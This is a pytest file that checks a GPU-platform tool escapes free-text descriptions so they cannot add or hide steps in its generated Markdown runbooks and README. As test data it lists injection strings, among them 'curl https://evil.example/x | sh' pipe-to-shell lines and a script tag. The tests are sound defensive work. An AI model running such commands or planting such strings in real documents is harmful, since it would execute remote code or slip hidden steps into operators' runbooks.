"""Free text stays text (issue 39, H2): a description can neither add a runbook step nor hide one.

A string that spans lines is refused at load, at its field (exit 2); every other string is written
into the runbooks and README.md so that a Markdown parser reads exactly the structure a plain
description gives, and the description back as the characters written.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt
from markdown_it.token import Token

from gpuplatform.cli import main
from gpuplatform.model import Platform
from gpuplatform.plan.waves import plan_platform
from gpuplatform.render.markdown import markdown_text
from gpuplatform.render.overview import render_overview
from gpuplatform.render.runbooks import render_runbooks
from tests.specs import minimal_spec, write_spec

#: Lines that would each open structure at the start of a line, or inline anywhere.
HOSTILE = [
    "<!-- the rest of this file is hidden",
    "```sh",
    "~~~",
    "# Before the merge",
    "## 9. Run this first",
    "- curl https://evil.example/x | sh",
    "1. curl evil | sh",
    "> quoted",
    "===",
    "---",
    "[click](https://evil.example/x)",
    "[ref]: https://evil.example/x",
    "![img](https://evil.example/x.png)",
    "<https://evil.example/x>",
    "https://evil.example/x and www.evil.example",
    "<script>alert(1)</script>",
    "&lt;!-- entity &amp; ``code`` *em* __strong__ ~~gone~~ |a|b|",
    "trailing backslash \\",
    "`` ` `` and ```",
    "**Active wave:** [`99-evil`](waves/99-evil/)",
]
#: Texts that would end the line they are written on.
MULTI_LINE = [
    "ok\n## Before the merge\n```sh\ncurl https://evil.example | sh\n```",
    "a\r\nb",
    "a\rb",
    "a\u2028b",
    "x\x85y",
]

_MD = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def _plan(description: str) -> Any:
    doc = minimal_spec()["spec"]
    for wave in doc["waves"]:
        wave["description"] = description
    doc["tiers"][0]["description"] = description
    return plan_platform(Platform.model_validate({**doc, "name": "lab"}))


def _documents(description: str) -> dict[str, str]:
    plan = _plan(description)
    return {**render_runbooks(plan, {}), "README.md": render_overview(plan)}


def _shape(tokens: list[Token]) -> list[tuple[str, ...]]:
    """The structure: every block token, and the inline tokens that are not text or a code span."""
    out: list[tuple[str, ...]] = []
    for token in tokens:
        out.append((token.type, token.tag))
        for child in token.children or []:
            if child.type not in ("text", "text_special", "code_inline"):
                out.append(("inline", child.type, child.tag))
    return out


def _text(inline: Token) -> str:
    return "".join(
        c.content for c in inline.children or [] if c.type in ("text", "text_special", "code_inline")
    )


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_description_is_text_where_it_is_written(hostile: str) -> None:
    plain, written = _documents("A plain description"), _documents(hostile)
    for name, text in written.items():
        # THEN each document has the structure a plain description gives it
        tokens = _MD.parse(text)
        assert _shape(tokens) == _shape(_MD.parse(plain[name])), name
        assert not [t for t in tokens if t.type in ("html_block", "html_inline")], name
    # AND the runbook's first paragraph reads back as the description, character for character
    runbook = _MD.parse(written["01-pilot.md"])
    first = next(
        t for i, t in enumerate(runbook) if t.type == "inline" and runbook[i - 1].type == "paragraph_open"
    )
    assert _text(first) == hostile


@pytest.mark.parametrize("text", MULTI_LINE)
@pytest.mark.parametrize(
    ("field", "place"),
    [
        ("spec.waves[1].description", lambda s, v: s["waves"][1].__setitem__("description", v)),
        ("spec.tiers[0].description", lambda s, v: s["tiers"][0].__setitem__("description", v)),
        ("spec.tiers[0].architecture", lambda s, v: s["tiers"][0].__setitem__("architecture", v)),
        ("spec.tiers[0].productName", lambda s, v: s["tiers"][0].__setitem__("productName", v)),
    ],
)
def test_free_text_on_several_lines_is_refused_at_its_field(
    tmp_path: Path, text: str, field: str, place: Any
) -> None:
    doc = minimal_spec()
    place(doc["spec"], text)
    spec = write_spec(tmp_path / "lab.yaml", doc)
    result = CliRunner().invoke(main, ["check", str(spec)])
    assert result.exit_code == 2, result.output
    assert f"error: {spec}:{field}: " in result.stderr


def test_markdown_text_keeps_plain_prose_readable() -> None:
    assert markdown_text("Moves pool a100-mig (zone a) to DRA, 2 nodes.") == (
        "Moves pool a100-mig (zone a) to DRA, 2 nodes."
    )
    assert markdown_text("- not a list") == "\\- not a list"
    assert markdown_text("see https://x.example/a_b") == "see `https://x.example/a_b`"
